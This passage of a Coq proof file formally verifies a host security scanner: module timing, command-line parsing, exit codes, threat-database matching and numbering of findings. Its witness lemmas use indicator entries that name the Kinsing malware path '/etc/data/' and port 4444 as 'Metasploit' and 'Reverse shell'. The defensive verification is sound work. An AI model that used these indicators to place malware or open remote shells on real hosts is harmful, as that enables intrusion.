  Forall (fun mr => (0 <= durationMs mr)%Z) (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now k ms)
  /\ (totalModuleTime (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now k ms)
      <= now (k + 2 * length ms) - now k)%Z.
Proof.
  intros Hmono. revert k. induction ms as [|m ms IH]; intros k.
  - cbn. split; [constructor|]. rewrite Nat.add_0_r. lia.
  - destruct (IH (S (S k))) as [Hpos Hsum].
    cbn [resultsFrom totalModuleTime fold_right durationMs length].
    fold (totalModuleTime (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now (S (S k)) ms)).
    pose proof (Hmono k (S k) ltac:(lia)).
    pose proof (Hmono (S k) (S (S k)) ltac:(lia)).
    split.
    + constructor; [cbn; lia | exact Hpos].
    + replace (k + 2 * S (length ms)) with (S (S k) + 2 * length ms) by lia.
      lia.
Qed.

Lemma run_explicit (ms : list jsstring) :
  modules (run ms) = resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now 1 ms
  /\ sr_findings (run ms) = concat (map findings (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now 1 ms))
  /\ signals (loopState COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now ms)
     = concat (map signalsOf (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now 1 ms))
  /\ sr_durationMs (run ms) = (now (1 + 2 * length ms) - now 0)%Z.
Proof.
  unfold Scanner.run, loopState.
  cbn [modules sr_findings sr_durationMs].
  destruct (fold_runModule_explicit ms (mkRunState [] [] [] 1))
    as (Hr & Hf & Hs & Hc).
  cbn zeta in *. rewrite Hr, Hf, Hs, Hc. repeat split.
Qed.

End LoopFacts.

(** X5: the progress signals of a scan are, for each requested module in
    the order of the request, the start signal of the module followed by its
    completion signal, which carries the duration recorded in the module
    result. *)
Theorem X5_progress_signals
  (collectors : gmap jsstring Scanner.BaseCollector)
  (analyzers : gmap jsstring Scanner.BaseAnalyzer)
  (threatDB : ThreatDB.t) (platform : Scanner.PlatformInfo)
  (now : nat -> Z) (toISOString : Z -> jsstring) (ms : list jsstring) :
  let r := Scanner.run collectors analyzers threatDB platform now
                       toISOString ms in
  Scanner.signals (loopState collectors analyzers threatDB now ms)
  = concat (map signalsOf (Scanner.modules r))
  /\ map Scanner.mr_module (Scanner.modules r) = ms.
Proof.
  destruct (run_explicit collectors analyzers threatDB platform now
                         toISOString ms) as (Hm & _ & Hs & _).
  cbn zeta. rewrite Hs, Hm. split; [reflexivity|].
  clear Hs Hm.
  generalize 1. induction ms as [|m ms IH]; intros k; [reflexivity|].
  cbn [resultsFrom map Scanner.mr_module]. rewrite IH. reflexivity.
Qed.

(** X6: when the clock never goes back, no module has a negative duration
    and the durations of the modules add up to at most the duration of the
    scan. *)
Theorem X6_durations_under_monotone_clock
  (collectors : gmap jsstring Scanner.BaseCollector)
  (analyzers : gmap jsstring Scanner.BaseAnalyzer)
  (threatDB : ThreatDB.t) (platform : Scanner.PlatformInfo)
  (now : nat -> Z) (toISOString : Z -> jsstring) (ms : list jsstring) :
  (forall a b : nat, a <= b -> (now a <= now b)%Z) ->
  let r := Scanner.run collectors analyzers threatDB platform now
                       toISOString ms in
  Forall (fun mr => (0 <= Scanner.durationMs mr)%Z) (Scanner.modules r)
  /\ (totalModuleTime (Scanner.modules r) <= Scanner.sr_durationMs r)%Z.
Proof.
  intros Hmono.
  destruct (run_explicit collectors analyzers threatDB platform now
                         toISOString ms) as (Hm & _ & _ & Hd).
  cbn zeta. rewrite Hm, Hd.
  destruct (resultsFrom_time collectors analyzers threatDB now 1 ms Hmono)
    as [Hpos Hsum].
  split; [exact Hpos|].
  pose proof (Hmono 0 1 ltac:(lia)). lia.
Qed.

(** The clock of the demonstration run reads 0, 1, 2, ... *)
Lemma X6_durations_under_monotone_clock_witness :
  (forall a b : nat, a <= b -> (Z.of_nat a <= Z.of_nat b)%Z)
  /\ Forall (fun mr => (0 <= Scanner.durationMs mr)%Z)
            (Scanner.modules (demoRun (js "boom") [js "ssh"; js "shell"]))
  /\ (totalModuleTime
        (Scanner.modules (demoRun (js "boom") [js "ssh"; js "shell"]))
      <= Scanner.sr_durationMs (demoRun (js "boom") [js "ssh"; js "shell"]))%Z.
Proof.
  assert (H : forall a b : nat, a <= b -> (Z.of_nat a <= Z.of_nat b)%Z)
    by (intros a b Hab; lia).
  split; [exact H|].
  exact (X6_durations_under_monotone_clock
           (demoCollectors (js "boom")) demoAnalyzers (ThreatDB.mkThreatDB [])
           (Scanner.mkPlatformInfo [] [] []) Z.of_nat (fun _ => [])
           [js "ssh"; js "shell"] H).
Defined.


(** ** The command line *)

Lemma arrayIncludes_In (xs : list jsstring) (x : jsstring) :
  CLI.arrayIncludes xs x = true <-> In x xs.
Proof.
  unfold CLI.arrayIncludes. rewrite existsb_exists. split.
  - intros (y & Hin & Heq). apply str_eqb_eq in Heq. subst. exact Hin.
  - intros Hin. exists x. split; [exact Hin | apply str_eqb_eq; reflexivity].
Qed.

Lemma unknownNames_filter (names : list jsstring) :
  List.filter (fun m => negb (CLI.arrayIncludes CLI.ALL_MODULES m)) names
  = unknownNames names.
Proof.
  unfold unknownNames. apply List.filter_ext. intros m.
  destruct (CLI.arrayIncludes CLI.ALL_MODULES m) eqn:H; cbn [negb]; symmetry.
  - apply bool_decide_eq_false_2. intros Hn. apply Hn.
    apply list_elem_of_In, arrayIncludes_In, H.
  - apply bool_decide_eq_true_2. intros Hin.
    apply list_elem_of_In, arrayIncludes_In in Hin. congruence.
Qed.

Lemma unknownNames_In (names : list jsstring) (m : jsstring) :
  In m (unknownNames names) <-> In m names /\ ~ In m CLI.ALL_MODULES.
Proof.
  unfold unknownNames. rewrite List.filter_In, bool_decide_eq_true.
  split; intros [H1 H2]; (split; [exact H1|]); intros H; apply H2;
    apply list_elem_of_In, H.
Qed.

Lemma unknownNames_nil (names : list jsstring) :
  unknownNames names = [] <-> Forall (fun m => In m CLI.ALL_MODULES) names.
Proof.
  rewrite List.Forall_forall. split.
  - intros Hnil m Hm.
    destruct (decide (m ∈ CLI.ALL_MODULES)) as [Hin|Hout];
      [apply list_elem_of_In, Hin|].
    assert (H : In m (unknownNames names)).
    { apply unknownNames_In. split; [exact Hm|].
      intros Hin. apply Hout, list_elem_of_In, Hin. }
    rewrite Hnil in H. destruct H.
  - intros Hall. destruct (unknownNames names) as [|m rest] eqn:Hu;
      [reflexivity|].
    assert (H : In m (unknownNames names)) by (rewrite Hu; left; reflexivity).
    apply unknownNames_In in H as [Hm Hout]. destruct (Hout (Hall m Hm)).
Qed.

(** X8: the modules option. Without the option, or with an empty one, all
    ten modules are scanned. Otherwise the option is cut at its commas and
    each name trimmed; when every name is one of the ten modules the list is
    accepted, in its order and with its repetitions, and otherwise the names
    of the option that are no module names (at least one) are reported, in
    their order and with their repetitions, and no scan runs. *)
Theorem X8_modules_option :
  CLI.parseModules None = CLI.Accepted CLI.ALL_MODULES
  /\ CLI.parseModules (Some []) = CLI.Accepted CLI.ALL_MODULES
  /\ (forall (opt : option jsstring) (ms : list jsstring),
        CLI.parseModules opt = CLI.Accepted ms ->
        Forall (fun m => In m CLI.ALL_MODULES) ms)
  /\ (forall (text : jsstring) (ms : list jsstring),
        text <> [] ->
        CLI.parseModules (Some text) = CLI.Accepted ms ->
        ms = map trim (split CLI.comma text))
  /\ (forall (opt : option jsstring) (invalid : list jsstring),
        CLI.parseModules opt = CLI.UnknownModules invalid ->
        invalid <> []
        /\ Forall (fun m => ~ In m CLI.ALL_MODULES) invalid)
  /\ (forall text : jsstring,
        text <> [] ->
        let names := map trim (split CLI.comma text) in
        CLI.parseModules (Some text)
        = match unknownNames names with
          | [] => CLI.Accepted names
          | _ :: _ => CLI.UnknownModules (unknownNames names)
          end)
  /\ (forall text : jsstring,
        text <> [] ->
        Forall (fun m => In m CLI.ALL_MODULES)
               (map trim (split CLI.comma text)) ->
        CLI.parseModules (Some text)
        = CLI.Accepted (map trim (split CLI.comma text)))
  /\ (forall (names : list jsstring) (m : jsstring),
        In m (unknownNames names) <->
        In m names /\ ~ In m CLI.ALL_MODULES).
Proof.
  assert (Hall : Forall (fun m => In m CLI.ALL_MODULES) CLI.ALL_MODULES)
    by (apply List.Forall_forall; auto).
  assert (Hparse : forall text : jsstring,
            text <> [] ->
            CLI.parseModules (Some text)
            = match unknownNames (map trim (split CLI.comma text)) with
              | [] => CLI.Accepted (map trim (split CLI.comma text))
              | _ :: _ =>
                  CLI.UnknownModules
                    (unknownNames (map trim (split CLI.comma text)))
              end).
  { intros [|c text] Hne; [congruence|]. unfold CLI.parseModules.
    change (0 <? length (c :: text)) with true. cbv iota zeta.
    rewrite unknownNames_filter.
    destruct (unknownNames _); reflexivity. }
  split; [reflexivity|]. split; [reflexivity|].
  split; [|split; [|split; [|split; [|split]]]].
  - intros [text|] ms; unfold CLI.parseModules;
      [|intros H; inversion H; subst; exact Hall].
    destruct (0 <? length text); [|intros H; inversion H; subst; exact Hall].
    cbv zeta. set (modules := map trim (split CLI.comma text)).
    destruct (List.filter _ modules) as [|x invalid] eqn:Hf;
      [|intros H; discriminate H].
    intros H; inversion H; subst. apply List.Forall_forall. intros m Hm.
    apply arrayIncludes_In.
    destruct (CLI.arrayIncludes CLI.ALL_MODULES m) eqn:Hinc; [reflexivity|].
    assert (Hin : In m (List.filter
                          (fun m => negb (CLI.arrayIncludes CLI.ALL_MODULES m))
                          modules))
      by (apply List.filter_In; rewrite Hinc; auto).
    rewrite Hf in Hin. destruct Hin.
  - intros [|c text] ms Hne; [congruence|]. unfold CLI.parseModules.
    change (0 <? length (c :: text)) with true. cbv iota zeta.
    destruct (0 <? length _); intros H; inversion H; reflexivity.
  - intros [text|] invalid; unfold CLI.parseModules; [|discriminate].
    destruct (0 <? length text); [|discriminate].
    cbv zeta. set (modules := map trim (split CLI.comma text)).
    destruct (List.filter _ modules) as [|x inv] eqn:Hf;
      [intros H; discriminate H|].
    intros H; inversion H; subst. split; [discriminate|].
    rewrite <- Hf. apply List.Forall_forall. intros m Hm.
    apply List.filter_In in Hm as [_ Hm]. rewrite <- arrayIncludes_In.
    destruct (CLI.arrayIncludes CLI.ALL_MODULES m); [discriminate Hm|].
    discriminate.
  - intros text Hne. cbv zeta. exact (Hparse text Hne).
  - intros text Hne Hvalid. rewrite (Hparse text Hne).
    apply unknownNames_nil in Hvalid. rewrite Hvalid. reflexivity.
  - exact unknownNames_In.
Qed.

(** Names are trimmed and may repeat; an option with the unknown names
    "sshd" and "" is refused with exactly these. *)
Lemma X8_modules_option_witness :
  CLI.parseModules (Some (js " ssh ,shell,ssh"))
  = CLI.Accepted [js "ssh"; js "shell"; js "ssh"]
  /\ Forall (fun m => In m CLI.ALL_MODULES) [js "ssh"; js "shell"; js "ssh"]
  /\ CLI.parseModules (Some (js "sshd,shell,,sshd"))
     = CLI.UnknownModules [js "sshd"; []; js "sshd"].
Proof.
  assert (H : CLI.parseModules (Some (js " ssh ,shell,ssh"))
              = CLI.Accepted [js "ssh"; js "shell"; js "ssh"])
    by reflexivity.
  split; [exact H|]. split.
  - exact (proj1 (proj2 (proj2 X8_modules_option)) _ _ H).
  - rewrite (proj1 (proj2 (proj2 (proj2 (proj2 (proj2 X8_modules_option)))))
               (js "sshd,shell,,sshd") ltac:(discriminate)).
    reflexivity.
Defined.

(** X9: the scan action never exits with 0. With an unknown module name it
    exits with 1 and no scan runs; after a scan it exits with 3 when a
    CRITICAL or HIGH finding is present, else with 2 when a MEDIUM one is,
    else with 1, also when there is no finding at all. *)
Theorem X9_exit_code_is_never_zero
  (collectors : gmap jsstring Scanner.BaseCollector)
  (analyzers : gmap jsstring Scanner.BaseAnalyzer)
  (threatDB : ThreatDB.t) (platform : Scanner.PlatformInfo)
  (now : nat -> Z) (toISOString : Z -> jsstring)
  (optModules : option jsstring) :
  let code := CLI.exitCode collectors analyzers threatDB platform now
                           toISOString optModules in
  (code = 1 \/ code = 2 \/ code = 3)%Z
  /\ match CLI.parseModules optModules with
     | CLI.UnknownModules _ => code = 1%Z
     | CLI.Accepted ms =>
         let fs := Scanner.sr_findings
                     (Scanner.run collectors analyzers threatDB platform now
                                  toISOString ms) in
         code = if present CRITICAL fs || present HIGH fs then 3%Z
                else if present MEDIUM fs then 2%Z
                else 1%Z
     end.
Proof.
  cbn zeta. unfold CLI.exitCode.
  destruct (CLI.parseModules optModules) as [ms|invalid]; [|auto].
  destruct (run_modules collectors analyzers threatDB platform now
                        toISOString ms) as (_ & _ & ->).
  rewrite maxSeverity_highestPresent. unfold highestPresent.
  set (fs := Scanner.sr_findings _).
  destruct (present CRITICAL fs), (present HIGH fs), (present MEDIUM fs),
    (present LOW fs); cbn; auto.
Qed.

(** ** More on the threat store *)

Lemma str_eqb_refl (s : jsstring) : str_eqb s s = true.
Proof. apply str_eqb_eq. reflexivity. Qed.

Lemma str_eqb_false (a b : jsstring) : str_eqb a b = false <-> a <> b.
Proof.
  rewrite <- str_eqb_eq. destruct (str_eqb a b); split; congruence.
Qed.

Lemma startsWith_spec (s p : jsstring) :
  startsWith s p = true <-> exists t, s = p ++ t.
Proof.
  revert s. induction p as [|c p IH]; intros s.
  - destruct s; cbn; split; eauto.
  - destruct s as [|d s]; cbn.
    + split; [discriminate | intros [t [=]]].
    + unfold char_eqb. rewrite andb_true_iff, N.eqb_eq, IH. split.
      * intros [-> [t ->]]. exists t. reflexivity.
      * intros [t [= -> ->]]. split; [reflexivity | eauto].
Qed.

Lemma matchPath_first (paths : list ThreatStore.PathEntry)
  (filePath : jsstring) :
  match ThreatStore.matchPath paths filePath with
  | Some e =>
      exists pre post,
        paths = pre ++ e :: post /\ pathHit filePath e = true
        /\ Forall (fun e0 => pathHit filePath e0 = false) pre
  | None => Forall (fun e0 => pathHit filePath e0 = false) paths
  end.
Proof.
  induction paths as [|e paths IH]; [constructor|].
  cbn [ThreatStore.matchPath]. fold (pathHit filePath e).
  destruct (pathHit filePath e) eqn:He.
  - exists [], paths. repeat split; [exact He | constructor].
  - destruct (ThreatStore.matchPath paths filePath) as [e'|].
    + destruct IH as (pre & post & -> & Hhit & Hpre).
      exists (e :: pre), post. repeat split; [exact Hhit|].
      constructor; assumption.
    + constructor; assumption.
Qed.

(** X10: [matchPath] answers with the first stored entry whose path is a
    prefix of the candidate or equals it once one trailing slash of the
    stored path is dropped, and with null when there is none. So every text
    that extends a stored path matches, whatever follows the stored path,
    and a stored path without its trailing slash matches too. *)
Theorem X10_matchPath_first_prefix (paths : list ThreatStore.PathEntry) :
  (forall (filePath : jsstring) (e : ThreatStore.PathEntry),
     ThreatStore.matchPath paths filePath = Some e ->
     exists pre post,
       paths = pre ++ e :: post
       /\ ((exists rest, filePath = ThreatStore.path e ++ rest)
           \/ filePath = ThreatStore.stripTrailingSlash (ThreatStore.path e))
       /\ Forall (fun e0 =>
                    (forall rest, filePath <> ThreatStore.path e0 ++ rest)
                    /\ filePath
                       <> ThreatStore.stripTrailingSlash (ThreatStore.path e0))
                 pre)
  /\ (forall filePath : jsstring,
        ThreatStore.matchPath paths filePath = None <->
        Forall (fun e0 =>
                  (forall rest, filePath <> ThreatStore.path e0 ++ rest)
                  /\ filePath
                     <> ThreatStore.stripTrailingSlash (ThreatStore.path e0))
               paths)
  /\ (forall (e : ThreatStore.PathEntry) (rest : jsstring),
        In e paths ->
        exists e', ThreatStore.matchPath paths (ThreatStore.path e ++ rest)
                   = Some e')
  /\ (forall e : ThreatStore.PathEntry,
        In e paths ->
        exists e',
          ThreatStore.matchPath paths
            (ThreatStore.stripTrailingSlash (ThreatStore.path e)) = Some e').
Proof.
  assert (Hmiss : forall filePath e0,
            pathHit filePath e0 = false <->
            (forall rest, filePath <> ThreatStore.path e0 ++ rest)
            /\ filePath
               <> ThreatStore.stripTrailingSlash (ThreatStore.path e0)).
  { intros filePath e0. unfold pathHit.
    rewrite orb_false_iff, str_eqb_false. split; intros [H1 H2].
    - split; [|exact H2]. intros rest ->.
      assert (startsWith (ThreatStore.path e0 ++ rest) (ThreatStore.path e0)
              = true) by (apply startsWith_spec; eauto).
      congruence.
    - split; [|exact H2].
      destruct (startsWith filePath (ThreatStore.path e0)) eqn:Hs;
        [|reflexivity].
      apply startsWith_spec in Hs as [rest ->]. destruct (H1 rest eq_refl). }
  assert (Hhit : forall filePath e0,
            pathHit filePath e0 = true ->
            (exists rest, filePath = ThreatStore.path e0 ++ rest)
            \/ filePath
               = ThreatStore.stripTrailingSlash (ThreatStore.path e0)).
  { intros filePath e0. unfold pathHit.
    rewrite orb_true_iff, startsWith_spec, str_eqb_eq. tauto. }
  assert (Hsome : forall filePath e,
            In e paths -> pathHit filePath e = true ->
            exists e', ThreatStore.matchPath paths filePath = Some e').
  { intros filePath e Hin He.
    pose proof (matchPath_first paths filePath) as H.
    destruct (ThreatStore.matchPath paths filePath) as [e'|]; [eauto|].
    rewrite List.Forall_forall in H. rewrite (H e Hin) in He. discriminate. }
  split; [|split; [|split]].
  - intros filePath e He.
    pose proof (matchPath_first paths filePath) as H. rewrite He in H.
    destruct H as (pre & post & -> & Hh & Hpre).
    exists pre, post. split; [reflexivity|]. split; [apply Hhit, Hh|].
    eapply Forall_impl; [exact Hpre|]. intros e0. apply Hmiss.
  - intros filePath.
    pose proof (matchPath_first paths filePath) as H.
    destruct (ThreatStore.matchPath paths filePath) as [e|].
    + destruct H as (pre & post & -> & Hh & _). split; [discriminate|].
      intros Hall. apply Forall_app in Hall as [_ Hall].
      apply Forall_cons in Hall as [He _]. apply Hmiss in He. congruence.
    + split; [intros _|reflexivity].
      eapply Forall_impl; [exact H|]. intros e0. apply Hmiss.
  - intros e rest Hin. apply (Hsome _ e Hin). unfold pathHit.
    apply orb_true_iff. left. apply startsWith_spec. eauto.
  - intros e Hin. apply (Hsome _ e Hin). unfold pathHit.
    rewrite str_eqb_refl. apply orb_true_r.
Qed.

(** The store holds /etc/data/: a file below it and the directory itself,
    written without the slash, both match. *)
Lemma X10_matchPath_first_prefix_witness :
  let e := ThreatStore.mkPathEntry (js "/etc/data/") (js "Kinsing")
                                   (js "critical") in
  In e [e]
  /\ (exists e', ThreatStore.matchPath [e] (js "/etc/data/" ++ js "libsystem.so")
                 = Some e')
  /\ (exists e', ThreatStore.matchPath [e] (js "/etc/data") = Some e').
Proof.
  cbn zeta.
  assert (H : In (ThreatStore.mkPathEntry (js "/etc/data/") (js "Kinsing")
                                          (js "critical"))
                 [ThreatStore.mkPathEntry (js "/etc/data/") (js "Kinsing")
                                          (js "critical")])
    by (left; reflexivity).
  split; [exact H|]. split.
  - exact (proj1 (proj2 (proj2 (X10_matchPath_first_prefix _))) _
                 (js "libsystem.so") H).
  - exact (proj2 (proj2 (proj2 (X10_matchPath_first_prefix _))) _ H).
Defined.

(** X11: [matchService] answers with the first stored entry whose name is
    exactly the given name, and with null exactly when no stored entry has
    that name. *)
Theorem X11_matchService_exact (services : list ThreatStore.ServiceEntry)
  (serviceName : jsstring) :
  match ThreatStore.matchService services serviceName with
  | Some e =>
      ThreatStore.s_name e = serviceName
      /\ exists pre post,
           services = pre ++ e :: post
           /\ Forall (fun e0 => ThreatStore.s_name e0 <> serviceName) pre
  | None => Forall (fun e0 => ThreatStore.s_name e0 <> serviceName) services
  end.
Proof.
  induction services as [|e services IH]; [constructor|].
  cbn [ThreatStore.matchService].
  destruct (str_eqb serviceName (ThreatStore.s_name e)) eqn:He.
  - apply str_eqb_eq in He. split; [congruence|].
    exists [], services. split; [reflexivity | constructor].
  - apply str_eqb_false in He.
    destruct (ThreatStore.matchService services serviceName) as [e'|].
    + destruct IH as (Hn & pre & post & -> & Hpre). split; [exact Hn|].
      exists (e :: pre), post. split; [reflexivity|].
      constructor; [congruence | exact Hpre].
    + constructor; [congruence | exact IH].
Qed.

(** X12: a listening query is at least as permissive as an outbound one:
    whenever [matchPort] finds an entry for an outbound query it finds one
    for the listening query on the same port, and when no stored entry has
    the port both queries answer null. *)
Theorem X12_listening_query_more_permissive (db : ThreatDB.t) (p : Z) :
  (forall e, ThreatDB.matchPort db p ThreatDB.outbound = Some e ->
             exists e', ThreatDB.matchPort db p ThreatDB.listening = Some e')
  /\ (Forall (fun e0 => ThreatDB.port e0 <> p) (ThreatDB.ports db) ->
      ThreatDB.matchPort db p ThreatDB.outbound = None
      /\ ThreatDB.matchPort db p ThreatDB.listening = None).
Proof.
  unfold ThreatDB.matchPort.
  change (str_eqb (ThreatDB.Direction_string ThreatDB.outbound) (js "listening"))
    with false.
  change (str_eqb (ThreatDB.Direction_string ThreatDB.listening) (js "listening"))
    with true.
  cbv iota. split.
  - induction (ThreatDB.ports db) as [|e0 entries IH]; [discriminate|].
    intros e. cbn [ThreatDB.matchPortIn].
    destruct (ThreatDB.port e0 =? p)%Z; cbn [andb]; [|apply IH].
    destruct (str_eqb (ThreatDB.direction e0) (js "outbound")); cbn [orb].
    + rewrite orb_true_r. eauto.
    + destruct (str_eqb (ThreatDB.direction e0) (js "listening")); eauto.
  - induction 1 as [|e0 entries He0 _ IH]; [split; reflexivity|].
    cbn [ThreatDB.matchPortIn]. apply Z.eqb_neq in He0. rewrite He0.
    exact IH.
Qed.

(** A table with a listening entry and an outbound entry for port 4444. *)
Lemma X12_listening_query_more_permissive_witness :
  let db := ThreatDB.mkThreatDB
              [ThreatDB.mkPortEntry 4444 (js "Metasploit") (js "high")
                                    (js "listening");
               ThreatDB.mkPortEntry 4444 (js "Reverse shell") (js "critical")
                                    (js "outbound")] in
  exists e e',
    ThreatDB.matchPort db 4444 ThreatDB.outbound = Some e
    /\ ThreatDB.matchPort db 4444 ThreatDB.listening = Some e'.
Proof.
  cbn zeta. eexists.
  assert (H : ThreatDB.matchPort
                (ThreatDB.mkThreatDB
                   [ThreatDB.mkPortEntry 4444 (js "Metasploit") (js "high")
                                         (js "listening");
                    ThreatDB.mkPortEntry 4444 (js "Reverse shell")
                                         (js "critical") (js "outbound")])
                4444 ThreatDB.outbound
              = Some (ThreatDB.mkPortEntry 4444 (js "Reverse shell")
                                           (js "critical") (js "outbound")))
    by reflexivity.
  destruct (proj1 (X12_listening_query_more_permissive _ 4444) _ H) as [e' He'].
  exists e'. split; [exact H | exact He'].
Defined.

(** ** Identifiers of findings *)

Lemma unjs_js (s : string) : unjs (js s) = s.
Proof.
  unfold unjs, js. rewrite map_map.
  rewrite (map_ext _ (fun a => a)) by apply ascii_N_embedding.
  rewrite map_id. apply string_of_list_ascii_of_string.
Qed.

Lemma unjs_zeros (k : nat) (s : jsstring) :
  DecimalString.NilEmpty.uint_of_string (unjs (repeat 48%N k ++ s))
  = option_map (Nat.iter k Decimal.D0)
               (DecimalString.NilEmpty.uint_of_string (unjs s)).
Proof.
  induction k as [|k IH]; cbn [repeat app Nat.iter].
  - destruct (DecimalString.NilEmpty.uint_of_string (unjs s)); reflexivity.
  - change (unjs (48%N :: repeat 48%N k ++ s))
      with (String "0" (unjs (repeat 48%N k ++ s))).
    cbn [DecimalString.NilEmpty.uint_of_string]. rewrite IH.
    destruct (DecimalString.NilEmpty.uint_of_string (unjs s)); reflexivity.
Qed.

Lemma of_uint_zeros (k : nat) (d : Decimal.uint) :
  Nat.of_uint (Nat.iter k Decimal.D0 d) = Nat.of_uint d.
Proof.
  induction k as [|k IH]; [reflexivity|]. cbn [Nat.iter]. exact IH.
Qed.

Lemma zeros_fill (k : nat) :
  firstn k (concat (repeat (js "0") k)) = repeat 48%N k.
Proof.
  assert (H : forall n, concat (repeat (js "0") n) = repeat 48%N n).
  { induction n as [|n IH]; [reflexivity|]. cbn [repeat concat].
    rewrite IH. reflexivity. }
  rewrite H. apply firstn_all2. rewrite repeat_length. lia.
Qed.

Lemma readCounter_String_nat (n : nat) : readCounter (String_nat n) = Some n.
Proof.
  unfold readCounter, String_nat. rewrite unjs_js.
  unfold DecimalString.NilZero.string_of_uint.
  destruct (Nat.to_uint n) eqn:Hn;
    try (rewrite DecimalString.NilEmpty.usu; cbn [option_map];
         rewrite <- Hn, DecimalNat.Unsigned.of_to; reflexivity).
  cbn. f_equal. rewrite <- (DecimalNat.Unsigned.of_to n), Hn. reflexivity.
Qed.

Lemma readCounter_idDigits (k : nat) : readCounter (idDigits k) = Some k.
Proof.
  pose proof (readCounter_String_nat k) as H.
  unfold idDigits, padStart. cbv zeta. rewrite zeros_fill.
  unfold readCounter in *. rewrite unjs_zeros.
  destruct (DecimalString.NilEmpty.uint_of_string (unjs (String_nat k)));
    [|discriminate H].
  cbn [option_map] in *. rewrite of_uint_zeros. exact H.
Qed.

Lemma idOf_inj (prefix : jsstring) (k1 k2 : nat) :
  idOf prefix k1 = idOf prefix k2 -> k1 = k2.
Proof.
  unfold idOf. intros H. apply app_inv_head in H. apply app_inv_head in H.
  pose proof (readCounter_idDigits k1) as H1. rewrite H in H1.
  rewrite readCounter_idDigits in H1. congruence.
Qed.

(** X13: the identifier that [nextId] returns is the prefix, a dash and at
    least three digits that read back as the incremented counter, zeros
    added in front below 100; so two different counter values never give
    the same identifier, beyond 999 either. *)
Theorem X13_nextId_reads_back (prefix : jsstring) :
  (forall e : Emitter,
     fst (nextId prefix e) = prefix ++ js "-" ++ idDigits (S (counter e))
     /\ counter (snd (nextId prefix e)) = S (counter e)
     /\ emitted (snd (nextId prefix e)) = emitted e)
  /\ (forall k : nat,
        readCounter (idDigits k) = Some k /\ 3 <= length (idDigits k))
  /\ (forall k1 k2 : nat, k1 <> k2 -> idOf prefix k1 <> idOf prefix k2).
Proof.
  split; [|split].
  - intros e. repeat split.
  - intros k. split; [apply readCounter_idDigits|].
    unfold idDigits, padStart. cbv zeta.
    rewrite zeros_fill, length_app, repeat_length. lia.
  - intros k1 k2 Hne H. apply Hne. exact (idOf_inj _ _ _ H).
Qed.

(** The identifiers of the 999th and of the 1000th finding differ. *)
Lemma X13_nextId_reads_back_witness :
  999 <> 1000 /\ idOf (js "NET") 999 <> idOf (js "NET") 1000.
Proof.
  assert (H : 999 <> 1000) by discriminate.
  split; [exact H|].
  exact (proj2 (proj2 (X13_nextId_reads_back (js "NET"))) 999 1000 H).
Defined.

(** ** Numbering of the findings of an analyzer *)

Lemma wellNumbered_emitter0 (prefix moduleName : jsstring) :
  wellNumbered prefix moduleName emitter0.
Proof. repeat split. constructor. Qed.

Lemma wellNumbered_push (prefix moduleName : jsstring)
  (mk : jsstring -> Finding) (e : Emitter) :
  (forall i, id (mk i) = i /\ module (mk i) = moduleName) ->
  wellNumbered prefix moduleName e ->
  wellNumbered prefix moduleName (push prefix mk e).
Proof.
  intros Hmk (Hc & Hid & Hmod).
  unfold wellNumbered. rewrite push_emitted.
  change (counter (push prefix mk e)) with (S (counter e)).
  rewrite length_app, map_app, Nat.add_1_r, seq_S, map_app, <- Hid.
  cbn [length map]. repeat split.
  - lia.
  - f_equal. rewrite (proj1 (Hmk _)). cbn [nextId fst].
    rewrite Hc. reflexivity.
  - apply Forall_app. split; [exact Hmod|].
    constructor; [apply Hmk | constructor].
Qed.

Lemma wellNumbered_fold {A : Type} (prefix moduleName : jsstring)
  (step : Emitter -> A -> Emitter) (xs : list A) (e : Emitter) :
  (forall e x, wellNumbered prefix moduleName e ->
               wellNumbered prefix moduleName (step e x)) ->
  wellNumbered prefix moduleName e ->
  wellNumbered prefix moduleName (fold_left step xs e).
Proof.
  intros Hstep. revert e. induction xs as [|x xs IH]; intros e He; [exact He|].
  cbn [fold_left]. apply IH, Hstep, He.
Qed.

Lemma wellNumbered_output (prefix moduleName : jsstring) (e : Emitter) :
  wellNumbered prefix moduleName e ->
  numberedOutput prefix moduleName (emitted e).
Proof.
  intros (_ & Hid & Hmod). repeat split; [exact Hid | | exact Hmod].
  rewrite Hid. apply Finite.Injective_map_NoDup; [|apply List.seq_NoDup].
  intros k1 k2. apply idOf_inj.
Qed.

Ltac well_numbered :=
  repeat match goal with
    | H : wellNumbered ?p ?m ?e |- wellNumbered ?p ?m ?e => exact H
    | |- wellNumbered _ _ emitter0 => apply wellNumbered_emitter0
    | |- wellNumbered _ _ (push _ _ _) =>
        apply wellNumbered_push; [intros; split; reflexivity|]
    | |- wellNumbered _ _ (fold_left _ _ _) =>
        apply wellNumbered_fold; [intros ? ? ?|]
    | |- wellNumbered _ _ (if ?c then _ else _) => destruct c
    | |- wellNumbered _ _ (match ?x with _ => _ end) => destruct x
    end.

Lemma wellNumbered_analyzeLines (source : CrontabAnalyzer.Source)
  (lines : list jsstring) (i : nat) (e : Emitter) :
  wellNumbered CrontabAnalyzer.prefix CrontabAnalyzer.moduleName e ->
  wellNumbered CrontabAnalyzer.prefix CrontabAnalyzer.moduleName
               (CrontabAnalyzer.analyzeLines source i lines e).
Proof.
  revert i e. induction lines as [|raw lines IH]; intros i e He; [exact He|].
  cbn [CrontabAnalyzer.analyzeLines]. apply IH.
  unfold CrontabAnalyzer.analyzeLine. cbv zeta. well_numbered.
Qed.

(** X14: in the output of the rootkit, credentials, firewall, shell and
    crontab analyzers the findings carry the identifiers PREFIX-001,
    PREFIX-002, ... in the order of the list (the n-th finding has the
    number n), no identifier occurs twice, and every finding names the
    module of its analyzer. *)
Theorem X14_findings_numbered_in_order :
  (forall data, numberedOutput (js "RK") (js "rootkit")
                               (RootkitAnalyzer.analyze data))
  /\ (forall formatSize data,
        numberedOutput (js "CRED") (js "credentials")
                       (CredentialAnalyzer.analyze formatSize data))
  /\ (forall toLowerCase data,
        numberedOutput (js "FW") (js "firewall")
                       (FirewallAnalyzer.analyze toLowerCase data))
  /\ (forall toLowerCase data,
        numberedOutput (js "SHELL") (js "shell")
                       (ShellAnalyzer.analyze toLowerCase data))
  /\ (forall data, numberedOutput (js "CRON") (js "crontabs")
